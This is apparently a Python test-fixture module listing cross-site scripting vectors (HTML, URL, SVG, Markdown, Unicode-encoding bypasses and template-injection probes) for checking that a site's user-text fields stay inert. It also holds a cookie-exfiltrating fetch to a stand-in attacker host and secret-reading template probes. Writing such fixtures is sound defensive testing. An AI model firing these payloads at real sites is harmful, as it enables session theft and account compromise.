"""Hostile input: XSS vectors for every place strangers can write text that others read.

Every vector that would run, if the site let it, sets ``window.__xss`` or opens a dialog, so a browser test can
tell whether anything ran. Written for this project; the families follow the usual ways filters are bypassed.
"""

SET = "window.__xss=1"
ALERT = "alert(1)"

# Attribute breaking and plain HTML injection.
HTML = [
    f"<script>{SET}</script>",
    f"<SCRIPT>{SET}</SCRIPT>",
    f"<script >{SET}</script >",
    f"<scr<script>ipt>{SET}</scr</script>ipt>",
    f'<img src=x onerror="{SET}">',
    f"<img src=x onerror={ALERT}>",
    f'<IMG SRC=x OnErRoR="{SET}">',
    '<img src="x" onerror="&#119;indow.__xss=1">',
    f'"><img src=x onerror="{SET}">',
    f"'><img src=x onerror='{SET}'>",
    f'" onmouseover="{SET}" x="',
    f"' onfocus='{SET}' autofocus '",
    f'" autofocus onfocus="{SET}',
    f"</textarea><img src=x onerror={ALERT}>",
    f"</title><script>{SET}</script>",
    f"</script><script>{SET}</script>",
    f'</style><img src=x onerror="{SET}">',
    f"<!--<img src=--><img src=x onerror={ALERT}//-->",
    f'<body onload="{SET}">',
    f'<input autofocus onfocus="{SET}">',
    f'<details open ontoggle="{SET}">',
    f'<video><source onerror="{SET}"></video>',
    f'<audio src=x onerror="{SET}">',
    f'<marquee onstart="{SET}">x</marquee>',
    f'<div onpointerenter="{SET}" style="position:fixed;inset:0">x</div>',
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    '<iframe src="javascript:parent.__xss=1"></iframe>',
    f'<object data="javascript:{SET}"></object>',
    f'<embed src="javascript:{SET}">',
    f'<form><button formaction="javascript:{SET}">go</button></form>',
    f'<isindex action="javascript:{SET}" type=image>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{SET}">',
    f'<noscript><p title="</noscript><img src=x onerror={ALERT}>">',
    f'<a href="https://example.org" onclick="{SET}">a link</a>',
    f'<base href="javascript:{SET}//">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{SET}">',
    f'<link rel="stylesheet" href="javascript:{SET}">',
    f'<table background="javascript:{SET}">',
    f'<div style="background:url(javascript:{SET})">x</div>',
    f'<div style="width:expression({SET})">x</div>',
    f"<template><script>{SET}</script></template><img src=x onerror={ALERT}>",
    f"<select><option><img src=x onerror={ALERT}></option></select>",
    f"<xmp><img src=x onerror={ALERT}></xmp>",
    f"<plaintext><img src=x onerror={ALERT}>",
]

# javascript: and data: URLs, raw and disguised.
URLS = [
    f'<a href="javascript:{SET}">click</a>',
    f'<a href="JaVaScRiPt:{SET}">click</a>',
    f'<a href=" javascript:{SET}">click</a>',
    f'<a href="java\tscript:{SET}">click</a>',
    f'<a href="java&#x09;script:{SET}">click</a>',
    f'<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:{SET}">click</a>',
    f'<a href="&#x6A;avascript:{SET}">click</a>',
    f'<a href="javascript&colon;{SET}">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">click</a>',
    f'<a href="data:text/html,<script>{SET}</script>">click</a>',
    f"javascript:{SET}",
    f"JAVASCRIPT:{SET}",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==",
    f'https://example.org/"onmouseover="{SET}',
    f"https://example.org/<script>{SET}</script>",
    f"www.example.org/'onclick='{SET}'",
    f'http://example.org/?q="><img src=x onerror={ALERT}>',
]

# SVG.
SVG = [
    f'<svg onload="{SET}">',
    f"<svg/onload={ALERT}>",
    f"<svg><script>{SET}</script></svg>",
    f'<svg><a xlink:href="javascript:{SET}"><text y="20">click</text></a></svg>',
    f'<svg><animate onbegin="{SET}" attributeName="x" dur="1s">',
    f'<svg><set attributeName="onload" to="{SET}"/></svg>',
    f'<svg><foreignObject><img src=x onerror="{SET}"></foreignObject></svg>',
    f'<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror={ALERT} /></svg>#x"/></svg>',
    '<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0id2luZG93Ll9feHNzPTEiLz4=">',
    f'<math><a xlink:href="javascript:{SET}">click</a></math>',
]

# Markdown link and image tricks (for article sections; harmless text elsewhere).
MARKDOWN = [
    f"[click](javascript:{SET})",
    f"[click](JAVASCRIPT:{SET})",
    f"[click]( javascript:{SET} )",
    f"[click](<javascript:{SET}>)",
    f"[click](javascript&#58;{SET})",
    f"[click](&#106;avascript:{SET})",
    f"[click](java%0ascript:{SET})",
    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)",
    f'[click](https://example.org "title\\" onmouseover=\\"{SET}")',
    f'[click](https://example.org"onmouseover="{SET})',
    f"![img](javascript:{SET})",
    f'![img](x" onerror="{SET})',
    f'![img](https://example.org/x.png"onerror="{SET})',
    f'![x"onerror="{SET}](https://example.org/x.png)',
    f"[ref]\n\n[ref]: javascript:{SET}",
    f'[ref]\n\n[ref]: https://example.org "x" onmouseover="{SET}"',
    f"<javascript:{SET}>",
    f'<https://example.org/"onmouseover="{SET}>',
    f"`<script>{SET}</script>`",
    f"```\n<script>{SET}</script>\n```",
    f"> <img src=x onerror={ALERT}>",
    f"- <img src=x onerror={ALERT}>",
    f"*<img src=x onerror={ALERT}>*",
    f"| a |\n|---|\n| <img src=x onerror={ALERT}> |",
    f'<div markdown="1">[click](javascript:{SET})</div>',
    f"[![img](x)](javascript:{SET})",
]

# Unicode and encoding tricks.
UNICODE = [
    f"\uff1cscript\uff1e{SET}\uff1c/script\uff1e",
    f"\u003cscript\u003e{SET}\u003c/script\u003e",
    f"%3Cscript%3E{SET}%3C/script%3E",
    f"&lt;script&gt;{SET}&lt;/script&gt;",
    f"&#60;script&#62;{SET}&#60;/script&#62;",
    f"\\x3cscript\\x3e{SET}\\x3c/script\\x3e",
    f"\\u003cimg src=x onerror={ALERT}\\u003e",
    f"<scr\u0000ipt>{SET}</scr\u0000ipt>".replace("\u0000", ""),
    f"\u202e<img src=x onerror={ALERT}>",
    f"\ufeff<img src=x onerror={ALERT}>",
    f"<img src=x one\u200brror={ALERT}>",
    f'<a href="java\u200bscript:{SET}">click</a>',
    f'<a href="\u2028javascript:{SET}">click</a>',
    f"+ADw-script+AD4-{SET}+ADw-/script+AD4-",
    "<img src=x onerror=\\u0061lert(1)>",
    f"\ud83d\ude00<img src=x onerror={ALERT}>\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"),
]

# Template injection: must come out as the same text, never evaluated.
TEMPLATES = [
    "{{ 7*7 }}",
    "{{ request.META }}",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "{% load static %}{% static 'x' %}",
    "{% include 'base.html' %}",
    "{{ user.password }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('window.__xss=1')()}}",
    "[[${7*7}]]",
]

# Beacons: if these ran or loaded, the browser would log "xss" to the console or ask an outside host for something.
OUTSIDE = "https://attacker.invalid"
BEACONS = [
    "<script>console.log('xss')</script>",
    "<img src=x onerror=\"console.log('xss')\">",
    f"<script>fetch('{OUTSIDE}/steal?c='+document.cookie)</script>",
    f'<img src="{OUTSIDE}/pixel.png">',
    f"![pixel]({OUTSIDE}/pixel.png)",
    f"[![pixel]({OUTSIDE}/pixel.png)]({OUTSIDE}/)",
    f"<img srcset='{OUTSIDE}/a.png 1x'>",
    f'<picture><source srcset="{OUTSIDE}/b.png"><img src="x.png"></picture>',
    f'<video poster="{OUTSIDE}/poster.png"></video>',
    f'<audio autoplay src="{OUTSIDE}/sound.mp3"></audio>',
    f'<link rel="prefetch" href="{OUTSIDE}/prefetch">',
    f"<style>@import url({OUTSIDE}/x.css);</style>",
    f'<div style="background:url({OUTSIDE}/bg.png)">x</div>',
    f"<svg><image href='{OUTSIDE}/i.png'/></svg>",
    f'<input type="image" src="{OUTSIDE}/button.png">',
    f'<object data="{OUTSIDE}/movie.swf"></object>',
]

VECTORS = list(dict.fromkeys(HTML + URLS + SVG + MARKDOWN + UNICODE + TEMPLATES + BEACONS))

# Short vectors for fields with a length limit (display name, location: 80 characters).
SHORT_VECTORS = [v for v in VECTORS if len(v) <= 80]
